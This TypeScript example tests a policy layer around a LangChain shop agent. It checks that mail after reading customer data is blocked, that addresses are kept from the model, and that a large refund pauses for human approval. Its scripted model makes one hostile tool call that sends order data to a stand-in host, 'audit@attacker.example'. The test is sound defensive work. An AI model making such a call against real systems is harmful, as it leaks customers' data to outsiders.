/**
 * An agent of LangChain under policy: mail after reading customer data is blocked, addresses never reach the model, and a large refund
 * pauses the agent, which another agent object goes on with from the checkpoint. Without OPENAI_API_KEY (and @langchain/openai) the
 * model is scripted, and the outcome is checked.
 */
import { Handlebar } from "@handlebar/core";
import { memorySink } from "@handlebar/core/sinks";
import { governAgent } from "@handlebar/langchain";
import { Command, MemorySaver } from "@langchain/langgraph";
import { AIMessage, fakeModel } from "langchain";
import { makeAgent, type World } from "./agent.ts";
import { POLICIES } from "./policies.ts";

const isScripted = process.env["OPENAI_API_KEY"] === undefined;
const scripted = fakeModel()
  .respondWithTools([{ name: "find_order", args: { orderId: "A-17" }, id: "call_1" }])
  .respondWithTools([{ name: "send_mail", args: { to: "audit@attacker.example", text: "orders" }, id: "call_2" }])
  .respondWithTools([{ name: "refund", args: { amount: 812.5 }, id: "call_3" }])
  .respond(new AIMessage("Order A-17 is paid back."));

const sink = memorySink();
const hb = Handlebar.init({
  agent: { slug: "shop" },
  policies: POLICIES,
  sinks: [sink],
  onApproval: ({ tool, args, reason }) => {
    console.log(`? ${tool} ${JSON.stringify(args)}: ${reason}; Ada, who is on call, approves this one call`);
    return { status: "approved", by: "ada" };
  },
});

const world: World = { refunds: [], mails: [] };
const checkpointer = new MemorySaver();
const start = () => ({ actor: { externalId: "ana" }, sessionId: "chat-1" });
const open = () => {
  const model = isScripted ? scripted : "openai:gpt-5";
  return governAgent(hb, makeAgent(world, { model, checkpointer }), { start });
};

const config = { configurable: { thread_id: "chat-1" } };
let pauses = 0;
let result = await open().invoke(
  { messages: [{ role: "user", content: "Order A-17 never came. I am ana@example.com and want my money back." }] },
  config,
);
while ("__interrupt__" in result && pauses < 5) {
  pauses += 1;
  console.log(`paused; ${JSON.stringify(result.__interrupt__).length} characters for an approval screen`);
  result = await open().invoke(new Command({ resume: true }), config);
}
await hb.shutdown();

const answer = result.messages.at(-1)?.text;
console.log(`> ${answer}`);
for (const event of sink.events) {
  if (event.kind !== "tool.decision") continue;
  console.log(`${event.data.verdict.padEnd(5)} ${event.data.tool.name}: ${event.data.message}`);
}

const sent = JSON.stringify(scripted.calls);
const problems = [
  ...(world.mails.length > 0 ? [`mail went out to ${world.mails.join(", ")}`] : []),
  ...(isScripted && world.refunds.join() !== "812.5" ? [`refunds paid: ${world.refunds.join(", ")}`] : []),
  ...(isScripted && answer !== "Order A-17 is paid back." ? ["the agent did not come to its end"] : []),
  ...(isScripted && pauses !== 1 ? [`the agent paused ${pauses} times`] : []),
  ...(sent.includes("ana@example.com") ? ["an address reached the model"] : []),
  ...(sink.events.filter(({ kind }) => kind === "run.ended").length === 1 ? [] : ["the run did not end once"]),
];
for (const problem of problems) console.error(`! ${problem}`);
if (problems.length > 0) process.exitCode = 1;
